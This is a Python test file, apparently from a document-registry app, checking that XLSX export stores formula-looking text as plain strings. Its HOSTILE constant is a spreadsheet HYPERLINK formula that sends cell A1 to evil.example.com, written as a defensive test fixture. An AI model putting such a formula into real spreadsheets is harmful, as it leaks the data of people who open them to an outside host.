"""Formula injection: text from a stranger's mail reaches spreadsheets as text."""

from __future__ import annotations

import io
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from gateway.reports.export import ExportColumn, export_xlsx
from registry.models import RegisterEntry

HOSTILE = '=HYPERLINK("http://evil.example.com/?"&A1,"Bấm vào đây")'


def test_a_summary_that_looks_like_a_formula_is_exported_as_text(engine: Engine) -> None:
    """GIVEN a register entry whose summary (trích yếu) and number are formulas
    WHEN the register is exported to XLSX
    THEN the cells hold the same characters as text (no formula in the workbook)."""
    entry = RegisterEntry(
        year=2026,
        incoming_number=1,
        summary=HOSTILE,
        document_number="=1+1",
        status="registered",
        urgency="thuong",
        inbound_id=1,
        sha256="0" * 64,
        document_sha256="0" * 64,
    )
    columns = (ExportColumn.NUMBER, ExportColumn.DOCUMENT_NUMBER, ExportColumn.SUMMARY)
    with Session(engine) as session:
        data = export_xlsx(session, [entry], columns, ZoneInfo("Asia/Ho_Chi_Minh"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.value for c in cells] == ["1/2026", "=1+1", HOSTILE]
    assert {c.data_type for c in cells} == {"s"}
